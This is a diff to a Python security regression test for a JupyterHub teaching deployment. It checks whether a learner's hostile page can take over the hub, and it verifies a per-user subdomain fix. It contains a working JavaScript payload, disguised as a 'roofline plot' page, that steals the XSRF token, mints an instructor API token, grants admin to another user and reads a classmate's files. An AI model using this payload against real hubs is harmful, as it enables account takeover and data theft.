@@ -100,36 +100,44 @@ def _free(spawner):
 
 c.Spawner.pre_spawn_hook = _take
 c.Spawner.post_stop_hook = _free
-configure_hub(c, public_url="https://127.0.0.1:{port}", service_url="http://127.0.0.1:{service_port}",
+configure_hub(c, public_url="https://{public_host}:{port}", service_url="http://127.0.0.1:{service_port}",
               progress_url="http://127.0.0.1:{service_port}/services/labkit-progress/",
               db=f"{{state}}/labkit-progress.sqlite", instructors=["ingrid"], stuck_minutes=10)
 """
 
 # The attack page (the review's rt_so_stage.py, in substance): on the hub's origin it gets the XSRF token from
 # /hub/home, mints a token for whoever opens it and makes mallory an admin; it also tries alice's files.
-ATTACK_JS = """async (make_admin) => {
-  const out = {ran: true};
+ATTACK_JS = """async ([make_admin, base]) => {
+  const out = {ran: true, origin: location.origin};
   try {
-    const home = await fetch("/hub/home", {credentials: "include"});
+    const home = await fetch(base + "/hub/home", {credentials: "include"});
     out.home = home.status;
     const m = (await home.text()).match(/xsrf_token:\\s*"([^"]+)"/);
     out.xsrf = !!m;
     const h = {"Content-Type": "application/json", "X-XSRFToken": m ? m[1] : ""};
-    const t = await fetch("/hub/api/users/ingrid/tokens", {method: "POST", credentials: "include", headers: h,
+    const t = await fetch(base + "/hub/api/users/ingrid/tokens", {method: "POST", credentials: "include", headers: h,
                                                          body: JSON.stringify({note: make_admin ? "loot" : "control"})});
     out.token = t.status;
     if (make_admin) {
-      const p = await fetch("/hub/api/users/mallory", {method: "PATCH", credentials: "include", headers: h,
+      const p = await fetch(base + "/hub/api/users/mallory", {method: "PATCH", credentials: "include", headers: h,
                                                         body: JSON.stringify({admin: true})});
       out.admin = p.status;
-      const a = await fetch("/user/alice/api/contents/secret.txt?content=1", {credentials: "include"});
+      const a = await fetch(base + "/user/alice/api/contents/secret.txt?content=1", {credentials: "include"});
       out.alice = a.status;
     }
   } catch (e) { out.error = String(e); }
   return out;
 }"""
-PAGE = ("<!doctype html><html><head><title>roofline</title></head><body><p>roofline plot</p><script>"
-        "(" + ATTACK_JS + ")(true).then(o => { document.title = 'RESULT ' + JSON.stringify(o); });</script></body></html>")
+
+
+def attack_page(base: str = "") -> str:
+    """Mallory's page: the attack against the hub at ``base`` ('' : the page's own origin)."""
+    return ("<!doctype html><html><head><title>roofline</title></head><body><p>roofline plot</p><script>(" + ATTACK_JS
+            + ")([true, " + json.dumps(base) + "]).then(o => { document.title = 'RESULT ' + JSON.stringify(o); });"
+            "</script></body></html>")
+
+
+PAGE = attack_page()
 
 STAGE = """
 from pathlib import Path
@@ -178,29 +186,47 @@ def rest_login(public: str, user: str, password: str, source: str) -> int:
         conn.close()
 
 
-def test_a_hostile_learner_on_a_real_hub(tmp_path: Path) -> None:
-    from playwright.sync_api import sync_playwright
-
+def start_hub(tmp_path: Path, hosts=("127.0.0.1", "localhost"), public_host="127.0.0.1", extra=""):
+    """The red team's hub (CONFIG, then ``extra``) in a process of its own: (process, log, public URL, ports)."""
     from labkit.hub_setup import make_self_signed
 
-    started = time.monotonic()
-    deadline = started + BUDGET_S
     port, hub_port, proxy_api, service_port = (free_port() for _ in range(4))
-    cert, key = make_self_signed(tmp_path / "tls", ["127.0.0.1", "localhost"])
+    cert, key = make_self_signed(tmp_path / "tls", list(hosts))
     th.TLS, th.CA_FILE = ssl.create_default_context(cafile=str(cert)), str(cert)
     for u in ("alice", "mallory", "ingrid"):
-        (tmp_path / "home" / u).mkdir(parents=True)
+        (tmp_path / "home" / u).mkdir(parents=True, exist_ok=True)
     (tmp_path / "home" / "alice" / "secret.txt").write_text("alice's own work")
     args = ["--ServerApp.allow_root=True"] if os.geteuid() == 0 else []
     (tmp_path / "jupyterhub_config.py").write_text(CONFIG.format(
         deploy=str(ROOT / "deploy" / "jupyterhub"), tmp=tmp_path, port=port, hub_port=hub_port, proxy_api=proxy_api,
-        service_port=service_port, chp=CHP, cert=str(cert), key=str(key), python=sys.executable, args=args))
+        service_port=service_port, chp=CHP, cert=str(cert), key=str(key), python=sys.executable, args=args,
+        public_host=public_host) + extra.format(port=port))
     env = {k: v for k, v in os.environ.items() if not k.startswith(("JUPYTERHUB_", "LABKIT_", "JUPYTER_"))}
     env.update(PATH=f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}", LABKIT_ADMIN_PASSWORD=PW["ingrid"])
     log = open(tmp_path / "hub.log", "w")
     hub = subprocess.Popen([sys.executable, "-m", "jupyterhub", "-f", str(tmp_path / "jupyterhub_config.py")], cwd=tmp_path,
                            env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
-    public = f"https://127.0.0.1:{port}"
+    return hub, log, f"https://{public_host}:{port}", (port, hub_port, proxy_api, service_port)
+
+
+def stop_hub(hub, log) -> None:
+    if hub.poll() is None:
+        hub.send_signal(signal.SIGTERM)
+        try:
+            hub.wait(30)
+        except subprocess.TimeoutExpired:
+            os.killpg(hub.pid, signal.SIGKILL)
+            hub.wait(10)
+    log.close()
+
+
+def test_a_hostile_learner_on_a_real_hub(tmp_path: Path) -> None:
+    from playwright.sync_api import sync_playwright
+
+    started = time.monotonic()
+    deadline = started + BUDGET_S
+    hub, log, public, ports = start_hub(tmp_path)
+    port, hub_port, proxy_api, service_port = ports
     api = f"{public}/hub/api"
     foreign = ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
     Foreign.hub = public
@@ -299,7 +325,7 @@ def test_a_hostile_learner_on_a_real_hub(tmp_path: Path) -> None:
 
                 ingrid_ctx, ingrid = logged_in("ingrid")
                 # the control: the same script, run in a page on the hub's own origin, gets a token (201)
-                control = ingrid.evaluate(ATTACK_JS, False)
+                control = ingrid.evaluate(ATTACK_JS, [False, ""])
                 assert control.get("xsrf") and control.get("token") == 201, control
                 results = {}
                 attack = ingrid_ctx.new_page()
@@ -389,14 +415,7 @@ def test_a_hostile_learner_on_a_real_hub(tmp_path: Path) -> None:
     finally:
         foreign.shutdown()
         foreign.server_close()
-        if hub.poll() is None:
-            hub.send_signal(signal.SIGTERM)
-            try:
-                hub.wait(30)
-            except subprocess.TimeoutExpired:
-                os.killpg(hub.pid, signal.SIGKILL)
-                hub.wait(10)
-        log.close()
+        stop_hub(hub, log)
     for k, v in measured.items():
         print(f"{k}: {v}")
     elapsed = time.monotonic() - started
@@ -405,3 +424,91 @@ def test_a_hostile_learner_on_a_real_hub(tmp_path: Path) -> None:
         with socket.socket() as s:
             assert s.connect_ex(("127.0.0.1", p)) != 0, f"port {p} still listening"
     assert elapsed < BUDGET_S
+
+
+SUBDOMAINS = """
+# per-user origins: https://<name>.localhost:<port> (Chromium resolves *.localhost to loopback). The learner's own
+# config is *allowed* here, so her page is served and its script runs: the origin alone must stop it
+configure_origins(c, subdomain_host="https://localhost:{port}", tls=True)
+c.Spawner.disable_user_config = False
+c.Spawner.environment = {{k: v for k, v in c.Spawner.environment.items() if k != "PYTHONNOUSERSITE"}}
+"""
+
+
+def test_per_user_subdomains_keep_a_learners_page_off_the_hubs_origin(tmp_path: Path) -> None:
+    """#1, the fix: with ``LABKIT_SUBDOMAIN_HOST`` (here ``https://localhost:<port>``, learners at
+    ``https://<name>.localhost:<port>``, the self-signed certificate made for ``localhost`` and ``*.localhost``) the
+    takeover page is served unsandboxed, as before the fix, and its script runs, on mallory's own origin: it gets
+    no token and no admin flag from the hub's origin. The control on the hub's origin gets a token."""
+    from playwright.sync_api import sync_playwright
+
+    started = time.monotonic()
+    deadline = started + BUDGET_S
+    hub, log, public, _ = start_hub(tmp_path, hosts=("localhost", "*.localhost", "127.0.0.1"), public_host="localhost",
+                                    extra=SUBDOMAINS)
+    api = f"{public}/hub/api"
+    try:
+        wait_for("the hub", lambda: http("GET", f"{api}/", timeout=2)[0] == 200, deadline)
+        # urllib's cookie jar mishandles the hub's __Host- cookies on a dotless host: the browser steps run in Chromium
+        mallory = Browser()
+        assert mallory.form(f"{public}/hub/signup", {"username": "mallory", "signup_password": PW["mallory"],
+                                                     "signup_password_confirmation": PW["mallory"]})[0] == 200
+        home = tmp_path / "home" / "mallory"  # what mallory's kernel wrote in the first test, written straight into her home
+        (home / ".jupyter").mkdir()
+        (home / ".jupyter" / "jupyter_server_config.py").write_text(f"c.ServerApp.extra_static_paths = [{str(home / 'pub')!r}]\n")
+        (home / "pub").mkdir()
+        (home / "pub" / "roofline.html").write_text(attack_page(public))
+        with sync_playwright() as pw:
+            browser = pw.chromium.launch(executable_path=CHROMIUM, args=[
+                "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--host-resolver-rules=MAP *.localhost 127.0.0.1"])
+            try:
+                def logged_in(user):
+                    ctx = browser.new_context(ignore_https_errors=True)
+                    page = ctx.new_page()
+                    page.goto(f"{public}/hub/login?next=%2Fhub%2Fhome")
+                    page.fill("input[name=username]", user)
+                    page.fill("input[name=password]", PW[user])
+                    page.click("#login_submit, input[type=submit], button[type=submit]")
+                    page.wait_for_url("**/hub/home", timeout=20000)
+                    return ctx, page
+
+                ctx, page = logged_in("ingrid")
+                approve = ctx.new_page()
+                approve.goto(f"{public}/hub/authorize/mallory")
+                approve.click("form button[type=submit]")
+                approve.wait_for_url("**/hub/authorize*", timeout=20000)
+                mallory_ctx, _ = logged_in("mallory")
+                mallory_ctx.close()
+                tokens = {u: json.loads(http("POST", f"{api}/users/{u}/tokens", body={"auth": {"username": u, "password": PW[u]}})[1])["token"]
+                          for u in ("mallory", "ingrid")}
+                status, text = http("POST", f"{api}/users/mallory/server", tokens["mallory"])
+                assert status in (201, 202) or "already" in text or "pending" in text, text
+
+                def ready():
+                    model = json.loads(http("GET", f"{api}/users/mallory", tokens["mallory"])[1])
+                    return model if (model.get("servers") or {}).get("", {}).get("ready") else None
+
+                server_url = wait_for("mallory's server", ready, deadline, every=0.5)["servers"][""]["url"]
+                assert server_url.startswith("https://mallory.localhost:"), server_url  # her own origin
+                control = page.evaluate(ATTACK_JS, [False, ""])
+                assert control.get("token") == 201, control
+                attack = ctx.new_page()
+                response = attack.goto(f"{server_url}static/roofline.html")
+                assert response is not None and response.status == 200  # served without a login, as before the fix
+                attack.wait_for_function("document.title.startsWith('RESULT ')", timeout=15000)
+                got = json.loads(attack.title()[len("RESULT "):])
+                print("subdomain takeover replay:", got)
+                assert got["ran"] and got["origin"].startswith("https://mallory.localhost:"), got
+                assert got.get("token") != 201 and got.get("admin") != 200 and not got.get("xsrf"), got
+            finally:
+                browser.close()
+        assert json.loads(http("GET", f"{api}/users/mallory", tokens["ingrid"])[1])["admin"] is False
+        notes = [t.get("note") for t in json.loads(http("GET", f"{api}/users/ingrid/tokens", tokens["ingrid"])[1])["api_tokens"]]
+        assert "loot" not in notes and "control" in notes, notes
+    except BaseException:
+        log.flush()
+        print((tmp_path / "hub.log").read_text()[-8000:])
+        raise
+    finally:
+        stop_hub(hub, log)
+    print(f"subdomain hub test: {time.monotonic() - started:.0f} s")
